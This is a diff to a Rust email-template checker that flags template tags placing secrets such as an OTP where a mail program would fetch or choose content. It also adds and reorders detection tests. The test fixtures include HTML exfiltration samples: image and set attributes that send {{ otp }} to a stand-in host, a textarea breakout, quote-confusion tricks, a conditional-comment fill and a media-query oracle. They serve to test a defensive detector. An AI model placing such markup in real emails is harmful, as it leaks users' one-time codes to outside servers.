@@ -6,7 +6,7 @@ use minijinja::Environment;
 
 use super::super::engine;
 use super::super::pieces::{Piece, pieces};
-use super::{At, branch, walk};
+use super::{At, branch, walk::walk};
 
 /// Attributes that are shown or read out, and nothing else.
 const SHOWN: [&str; 4] = ["alt", "aria-label", "title", "value"];
@@ -45,7 +45,7 @@ pub(in super::super) fn secrets(source: &str) -> Vec<(usize, &str)> {
 /// be fetched, or choose what is: by a class, a `media`, an attribute that the next mail program knows.
 fn only_shows(at: &At) -> bool {
     match at {
-        At::Text | At::Comment => true,
+        At::Text | At::Comment | At::Raw("title") => true,
         At::Value {
             element, attribute, ..
         } => {
@@ -139,6 +139,18 @@ mod tests {
                 "{{ otp }}",
             ),
             (
+                "<!--[if mso]><v:fill src=\"{{ otp }}\"><![endif]-->",
+                "{{ otp }}",
+            ),
+        ] {
+            assert_eq!(tags(source), [tag], "{source}");
+        }
+    }
+
+    #[test]
+    fn so_is_what_holds_a_secret_and_a_place_that_chooses_what_is_fetched() {
+        for (source, tag) in [
+            (
                 "<img src=\"https://a.example/?s={{ subject }}\">",
                 "{{ subject }}",
             ),
@@ -148,15 +160,19 @@ mod tests {
             ),
             ("<p class=\"c{{ otp[0] }}\">", "{{ otp[0] }}"),
             (
+                "<textarea><p title=\"</textarea><img src='{{ otp }}'>\">",
+                "{{ otp }}",
+            ),
+            (
+                "<img x=a' src=\"https://a.example/{{ otp }}\" y=b'>",
+                "{{ otp }}",
+            ),
+            (
                 "<source media=\"{{ 'all' if otp < '5' else 'print' }}\">",
                 "{{ 'all' if otp < '5' else 'print' }}",
             ),
             ("<path stroke=\"url({{ otp }})\"/>", "{{ otp }}"),
             ("<set to=\"https://a.example/{{ otp }}\">", "{{ otp }}"),
-            (
-                "<!--[if mso]><v:fill src=\"{{ otp }}\"><![endif]-->",
-                "{{ otp }}",
-            ),
         ] {
             assert_eq!(tags(source), [tag], "{source}");
         }
